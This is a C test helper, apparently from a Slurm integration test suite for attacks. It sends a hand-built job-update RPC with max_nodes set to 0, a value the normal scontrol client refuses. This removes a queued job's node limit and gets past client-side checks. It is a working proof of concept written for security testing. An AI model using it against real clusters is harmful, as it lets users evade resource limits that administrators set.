/* A client no Slurm command builds, for tests/integration/test-attacks.sh:
 * `scontrol update` never sends a maximum node count of 0 (NumNodes=N-0 is
 * refused on the client), but the RPC takes any number, and Slurm stores 0
 * as "no maximum" for a queued job. Any user can link libslurm: this one
 * sends JOBID's update with max_nodes = 0 and nothing else.
 *   usage: update_forge JOBID      (exit 0: slurmctld accepted the update) */
#include <stdio.h>
#include <stdlib.h>
#include <slurm/slurm.h>
#include <slurm/slurm_errno.h>

int main(int argc, char **argv)
{
    job_desc_msg_t desc;
    char *end = NULL;
    unsigned long id;

    if (argc != 2) {
        fprintf(stderr, "usage: update_forge JOBID\n");
        return 2;
    }
    id = strtoul(argv[1], &end, 10);
    if (!*argv[1] || *end || id == 0 || id > 0xfffffff0UL) {
        fprintf(stderr, "update_forge: not a job ID: %s\n", argv[1]);
        return 2;
    }
    slurm_init(NULL);
    slurm_init_job_desc_msg(&desc);
    desc.job_id = (uint32_t) id;
    desc.max_nodes = 0;
    if (slurm_update_job(&desc) != SLURM_SUCCESS) {
        slurm_perror("update_forge");
        slurm_fini();
        return 1;
    }
    slurm_fini();
    return 0;
}
